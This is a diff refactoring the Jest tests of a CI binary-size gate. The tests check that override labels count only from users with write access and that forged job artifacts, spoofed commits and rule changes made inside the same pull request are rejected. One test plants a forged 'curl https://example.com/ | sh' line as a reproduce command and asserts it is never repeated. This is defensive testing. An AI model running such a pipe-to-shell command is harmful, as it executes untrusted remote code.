@@ -1,35 +1,32 @@
 // Overrides: who may lets a change pass, at once and without a build.
-import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
+import { beforeEach, describe, expect, it } from '@jest/globals'
 import { defaultOverrideRules } from '../../src/core/policy/override.ts'
 import { pullRequestEvent, pushEvent } from './event.ts'
 import type { Job } from './job.ts'
 import { forgeLeg, growBase, vouchForLeg } from './legs.ts'
-import type { PullRequest, Repository } from './repository.ts'
+import type { PullRequest } from './repository.ts'
 import {
   budgetPath,
-  makeStrictPull,
-  minutes,
-  strictBudget
+  openStrictPull,
+  strictBudget,
+  strictFiles
 } from './strict-pull.ts'
-import { pullScopes, reportOf, type World } from './world.ts'
+import { minutes, useWorld } from './use-world.ts'
+import { pullScopes, reportOf } from './world.ts'
 
 const { label } = defaultOverrideRules
 
-let world: World
-let repository: Repository
+const scene = useWorld(strictFiles())
 let pull: PullRequest
 
-beforeEach(async () => {
-  const strict = await makeStrictPull()
-  ;({ world, repository, pull } = strict)
-  world.github.pull.permissions.set('maintainer', 'write')
+beforeEach(() => {
+  pull = openStrictPull(scene.repository)
+  scene.world.github.pull.permissions.set('maintainer', 'write')
 })
 
-afterEach(() => world.close())
-
 function run(action: string, { fork = false, depth = 1 } = {}): Promise<Job> {
-  return world.run({
-    workspace: repository.checkout('refs/pull/7/merge', { depth }),
+  return scene.world.run({
+    workspace: scene.repository.checkout('refs/pull/7/merge', { depth }),
     event: pullRequestEvent(pull, { action, fork }),
     scopes: pullScopes
   })
@@ -41,7 +38,7 @@ function ago(count: number): string {
 }
 
 function labeled(login: string, at: string = ago(-1)): void {
-  world.github.pull.timeline.push({ event: 'labeled', label, login, at })
+  scene.world.github.pull.timeline.push({ event: 'labeled', label, login, at })
 }
 
 const noticesOf = (job: Job): string =>
@@ -58,7 +55,7 @@ describe('an override', () => {
         line: 'Binary-Size: <reason>',
         approvers: []
       })
-      const [red] = world.github.comments
+      const [red] = scene.world.github.comments
       expect(red?.body).toContain(
         `To let this change pass**: somebody who may write to this repository adds the label <code>${label}</code>`
       )
@@ -71,12 +68,12 @@ describe('an override', () => {
       expect(passed.log).toContain('Nothing is built')
       expect(passed.log).not.toContain('Build the head')
       expect(reportOf(passed).approval).toBeUndefined()
-      expect(world.github.comments).toHaveLength(1)
-      expect(world.github.comments[0]?.body).toMatch(
+      expect(scene.world.github.comments).toHaveLength(1)
+      expect(scene.world.github.comments[0]?.body).toMatch(
         /is allowed by the label .*of maintainer/
       )
 
-      world.github.pull.timeline.push({
+      scene.world.github.pull.timeline.push({
         event: 'unlabeled',
         label,
         login: 'maintainer',
@@ -92,7 +89,7 @@ describe('an override', () => {
   it(
     'by the author of the pull request, who may not write, is shown and does not count',
     async () => {
-      world.github.pull.text = {
+      scene.world.github.pull.text = {
         body: 'Binary-Size: I need it',
         createdAt: new Date(Date.now() + 60_000).toISOString(),
         lastEditedAt: null,
@@ -106,9 +103,11 @@ describe('an override', () => {
       expect(notices).toContain('the label')
       expect(notices).toContain('stranger may not write to this repository')
       expect(notices).toContain("the pull request's text")
-      expect(world.github.comments[0]?.body).toContain('stranger may not write')
+      expect(scene.world.github.comments[0]?.body).toContain(
+        'stranger may not write'
+      )
       // With the right to write it would:
-      world.github.pull.permissions.set('stranger', 'write')
+      scene.world.github.pull.permissions.set('stranger', 'write')
       expect((await run('labeled')).code).toBe(0)
     },
     2 * minutes
@@ -117,11 +116,11 @@ describe('an override', () => {
   it(
     'cannot be prepared by a change of the rules in the same pull request',
     async () => {
-      repository.commit('feature', {
+      scene.repository.commit('feature', {
         [budgetPath]:
           'fail: { max-growth: 10 KiB }\noverride-approvers: [stranger]\noverride-sticky: true\n'
       })
-      pull = repository.pullRequest(7, 'feature')
+      pull = scene.repository.pullRequest(7, 'feature')
       labeled('stranger')
       expect(await run('synchronize')).toMatchObject({
         code: 1,
@@ -134,7 +133,7 @@ describe('an override', () => {
   it(
     'that was chosen when the pull request was opened counts, though its run is later',
     async () => {
-      const { pull: known } = world.github
+      const { pull: known } = scene.world.github
       known.createdAt = ago(2)
       known.pushes.push({ after: pull.head, at: ago(9) })
       labeled('maintainer', ago(1.9))
@@ -147,7 +146,7 @@ describe('an override', () => {
   it(
     'does not count for a commit that came later, though it ran elsewhere before',
     async () => {
-      const { pull: known, actions } = world.github
+      const { pull: known, actions } = scene.world.github
       known.createdAt = ago(60)
       known.pushes.push({ after: pull.head, at: ago(2) })
       actions.addRun({
@@ -170,7 +169,7 @@ describe('an override', () => {
     async () => {
       labeled('maintainer')
       const refusal = { kind: 'status', status: 403 } as const
-      world.github.fail('permission', refusal)
+      scene.world.github.fail('permission', refusal)
       const job = await run('opened')
       expect(job).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
       expect(reportOf(job).provenance?.notices.join('\n')).toContain(
@@ -184,8 +183,8 @@ describe('an override', () => {
 const stopped = { code: 1, outputs: { verdict: 'fail' } }
 
 const recordMain = () =>
-  world.run({
-    workspace: repository.checkout('refs/heads/main'),
+  scene.world.run({
+    workspace: scene.repository.checkout('refs/heads/main'),
     event: pushEvent(pull.base, null)
   })
 
@@ -195,20 +194,20 @@ describe('a pull request that is judged again', () => {
     async () => {
       expect(await run('opened')).toMatchObject(stopped)
       // What the run said of itself is not repeated.
-      forgeLeg(world, (result) => {
+      forgeLeg(scene.world, (result) => {
         Object.assign(Object(result['provenance']), {
           notices: ['all is well'],
           passedThrough: ['CC=all-is-well'],
           reproduce: 'curl https://example.com/ | sh'
         })
       })
-      vouchForLeg(world)
+      vouchForLeg(scene.world)
       const judged = await run('edited')
       expect(judged).toMatchObject(stopped)
       expect(judged.log).toContain('Nothing is built')
       const said = JSON.stringify([
         reportOf(judged).provenance,
-        world.github.comments
+        scene.world.github.comments
       ])
       expect(said).not.toMatch(/all.is.well|curl/)
       expect(noticesOf(judged)).toMatch(
@@ -239,15 +238,15 @@ describe('a pull request that is judged again', () => {
     async () => {
       expect(await run('opened')).toMatchObject(stopped)
       // A job of the same run, which has the code of the pull request as well:
-      forgeLeg(world, growBase)
+      forgeLeg(scene.world, growBase)
       const built = await run('edited')
       expect(built).toMatchObject(stopped)
       expect(built.log).toContain('another job may have left it')
       expect(built.log).toContain('Build the head')
 
       // Another workflow of the same commit, with a job of the same name:
-      const { actions } = world.github
-      forgeLeg(world, growBase)
+      const { actions } = scene.world.github
+      forgeLeg(scene.world, growBase)
       const forged = actions.artifacts.pop()
       if (forged === undefined) throw new Error('nothing was forged')
       const other = { id: 5000, event: 'pull_request', branch: 'feature' }
@@ -255,7 +254,7 @@ describe('a pull request that is judged again', () => {
       actions.addArtifact(5000, forged.name, forged.content)
       const job = { runId: 5000, name: 'size', runnerName: '', log: '' }
       actions.addJob({ ...job, conclusion: 'success' })
-      vouchForLeg(world)
+      vouchForLeg(scene.world)
       expect(await run('edited')).toMatchObject(stopped)
     },
     4 * minutes
@@ -266,8 +265,8 @@ describe('a pull request that is judged again', () => {
     async () => {
       expect(await run('opened')).toMatchObject(stopped)
       // Even code that could write as the gate's own job:
-      forgeLeg(world, growBase)
-      vouchForLeg(world)
+      forgeLeg(scene.world, growBase)
+      vouchForLeg(scene.world)
       const built = await run('edited')
       expect(built).toMatchObject(stopped)
       expect(built.log).toContain(
@@ -282,8 +281,8 @@ describe('a pull request that is judged again', () => {
     'is built again where it is from a fork',
     async () => {
       expect(await run('opened', { fork: true })).toMatchObject(stopped)
-      forgeLeg(world, growBase)
-      vouchForLeg(world)
+      forgeLeg(scene.world, growBase)
+      vouchForLeg(scene.world)
       const built = await run('edited', { fork: true })
       expect(built).toMatchObject(stopped)
       expect(built.log).toContain(
@@ -297,20 +296,20 @@ describe('a pull request that is judged again', () => {
   it(
     'has no allowance by a commit that its run names, but by what is checked out',
     async () => {
-      repository.commit('main', {
+      scene.repository.commit('main', {
         [budgetPath]: `${strictBudget}allowances: [{ dependencies-only: true, fail: { max-growth: none } }]\n`
       })
-      repository.merge('feature', 'main')
-      pull = repository.pullRequest(7, 'feature')
+      scene.repository.merge('feature', 'main')
+      pull = scene.repository.pullRequest(7, 'feature')
       // It changes nothing but go.mod, and is in the clone.
-      const innocent = repository.commit('innocent', {
+      const innocent = scene.repository.commit('innocent', {
         'go.mod': 'module example.com/tool\n\ngo 1.20\n'
       })
       expect((await run('opened')).code).toBe(1)
-      forgeLeg(world, (result) => {
+      forgeLeg(scene.world, (result) => {
         result['commit'] = innocent
       })
-      vouchForLeg(world)
+      vouchForLeg(scene.world)
       const job = await run('edited', { depth: 0 })
       expect(job).toMatchObject(stopped)
       expect(job.log).toContain('Nothing is built')
@@ -323,12 +322,12 @@ describe('a pull request that is judged again', () => {
     async () => {
       expect(await run('opened')).toMatchObject(stopped)
       const other = '1'.repeat(40)
-      world.github.mergeBases.set(`${other}...main`, pull.base)
-      forgeLeg(world, (result) => {
+      scene.world.github.mergeBases.set(`${other}...main`, pull.base)
+      forgeLeg(scene.world, (result) => {
         growBase(result)
         result['base'] = other
       })
-      vouchForLeg(world)
+      vouchForLeg(scene.world)
       const job = await run('edited')
       expect(job).toMatchObject(stopped)
       expect(job.log).toContain('which is not a commit of main')
